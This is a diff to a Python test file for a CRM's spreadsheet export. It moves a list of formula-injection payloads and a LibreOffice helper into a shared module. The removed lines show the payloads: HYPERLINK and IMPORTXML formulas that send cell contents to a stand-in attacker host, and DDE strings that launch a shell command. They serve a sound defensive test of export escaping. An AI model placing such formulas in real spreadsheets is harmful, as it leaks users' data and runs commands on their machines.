@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import csv
-import shutil
-import subprocess
 from collections.abc import Iterable
 from datetime import datetime
 from pathlib import Path
@@ -12,6 +10,7 @@ from typing import Any
 
 import pytest
 from openpyxl import load_workbook
+from workbooks import INJECTIONS, saved_by_libreoffice, with_libreoffice
 
 from creator_crm.domain.fields import Field, Kind
 from creator_crm.exchange.errors import ExchangeError
@@ -19,14 +18,6 @@ from creator_crm.exchange.lists_out import Cell, Column, write_list
 from creator_crm.exchange.safe_text import unguarded
 
 TEXT = Field(name="text", label="Text", kind=Kind.LONG_TEXT)
-INJECTIONS = (
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1", "-1+1",
-    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@ana", "+44 20 7946 0958", "+49-170-123", "\t=1+1", "\r=1+1",
-    "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "1;=1+1", '"=1+1', ",=1+1", "==1+1",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
-)  # fmt: skip
-soffice = shutil.which("soffice")
-with_libreoffice = pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed")
 
 
 def column(kind: Kind, **options: Any) -> Column:
@@ -41,18 +32,6 @@ def write_texts(path: Path, texts: Iterable[str]) -> Path:
 def read_csv(path: Path) -> list[list[str]]:
     with path.open(encoding="utf-8-sig", newline="") as file:
         return list(csv.reader(file))
-
-
-def converted(path: Path, ending: str) -> Path:
-    """The file as LibreOffice saves it after opening it."""
-    assert soffice
-    folder = path.parent / "converted"
-    home = path.parent / "libreoffice"
-    command = [soffice, f"-env:UserInstallation={home.as_uri()}", "--headless", "--convert-to", ending]
-    subprocess.run(
-        [*command, "--outdir", str(folder), str(path)], check=True, capture_output=True, timeout=100
-    )
-    return folder / f"{path.stem}.{ending}"
 
 
 def test_there_are_27_ways_to_inject_a_formula_here() -> None:
@@ -75,14 +54,16 @@ def test_a_workbook_holds_every_injection_as_text_letter_by_letter(tmp_path: Pat
 
 @with_libreoffice
 def test_libreoffice_makes_no_formula_of_a_csv_list(tmp_path: Path) -> None:
-    book = load_workbook(converted(write_texts(tmp_path / "list.csv", INJECTIONS), "xlsx"))
+    book = load_workbook(saved_by_libreoffice(write_texts(tmp_path / "list.csv", INJECTIONS), "xlsx"))
     assert [cell.value for row in book.active.iter_rows() for cell in row if cell.data_type == "f"] == []
 
 
 @with_libreoffice
 def test_libreoffice_saves_a_workbook_with_the_same_texts_and_no_formula(tmp_path: Path) -> None:
     digits = ("7300712345678901234567", "0049170123", "1E05", "3/4", "00123")
-    book = load_workbook(converted(write_texts(tmp_path / "list.xlsx", (*INJECTIONS, *digits)), "xlsx"))
+    book = load_workbook(
+        saved_by_libreoffice(write_texts(tmp_path / "list.xlsx", (*INJECTIONS, *digits)), "xlsx")
+    )
     cells = [row[0] for row in book.active.iter_rows(min_row=2)]
     assert [cell.value for cell in cells if cell.data_type == "f"] == []
     assert tuple(cell.value for cell in cells) == (*INJECTIONS, *digits)
